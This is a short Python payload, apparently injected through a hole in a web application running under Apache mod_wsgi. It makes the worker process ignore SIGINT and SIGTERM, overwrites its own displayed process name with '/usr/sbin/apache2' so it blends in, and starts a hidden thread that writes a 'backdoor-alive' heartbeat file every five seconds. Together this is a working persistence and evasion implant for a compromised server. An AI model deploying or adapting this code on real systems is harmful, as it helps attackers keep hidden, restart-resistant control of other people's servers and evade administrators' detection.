# Sent to the app's hole (POST /x): the mod_wsgi daemon itself stays (its program is Apache's), ignores the
# SIGINT/SIGTERM mod_wsgi restarts it with (the libc call, under mod_wsgi's own handler), writes "/usr/sbin/apache2"
# back over its display name (its own memory) and keeps a thread of the attacker's.
import ctypes
import os
import threading
import time

libc = ctypes.CDLL(None)
libc.signal.restype = ctypes.c_void_p
libc.signal.argtypes = [ctypes.c_int, ctypes.c_void_p]
for sig in (2, 15):
    libc.signal(sig, ctypes.c_void_p(1))  # SIG_IGN
fields = open("/proc/self/stat").read().rsplit(")", 1)[1].split()
start, end = int(fields[45]), int(fields[46])  # arg_start, arg_end (stat fields 48, 49)
name = ctypes.string_at(start, end - start)
shown = name.index(b"\0")  # argv[0] as mod_wsgi rewrote it: "(wsgi:yourapplica" over "/usr/sbin/apache2"
ctypes.memmove(start, b"/usr/sbin/apache2".ljust(shown)[:shown], shown)  # its own memory (no /proc/self/mem)


def beat():
    while True:
        with open("/tmp/backdoor-alive", "a") as f:
            f.write("%d uid=%d pid=%d (the daemon itself)\n" % (time.time(), os.getuid(), os.getpid()))
        time.sleep(5)


threading.Thread(target=beat, daemon=True).start()
out = "renamed %d" % os.getpid()
